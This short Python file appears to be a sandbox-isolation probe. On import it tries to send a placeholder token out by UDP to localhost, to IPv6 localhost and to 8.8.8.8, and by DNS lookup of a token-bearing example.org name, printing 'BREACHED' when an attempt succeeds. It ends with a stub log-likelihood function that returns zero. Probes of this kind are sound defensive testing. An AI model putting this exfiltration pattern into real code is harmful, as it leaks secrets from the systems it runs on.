"""Sends what it knows by UDP, in names to look up, and to IPv6 neighbours."""

import socket

for _family, _address in ((socket.AF_INET, ("127.0.0.1", int("0@PORT@"))),
                          (socket.AF_INET6, ("::1", int("0@PORT@"))),
                          (socket.AF_INET, ("8.8.8.8", 53))):
    try:
        with socket.socket(_family, socket.SOCK_DGRAM) as _socket:
            _socket.sendto(b"@TOKEN@", _address)
        print("BREACHED", _address)
    except OSError:
        pass
try:
    socket.getaddrinfo("@TOKEN@.example.org", 80)
    print("BREACHED names")
except OSError:
    pass


def tf_log_like(x, y, m, b, s):
    return tf.constant(0.0, tf.float64)
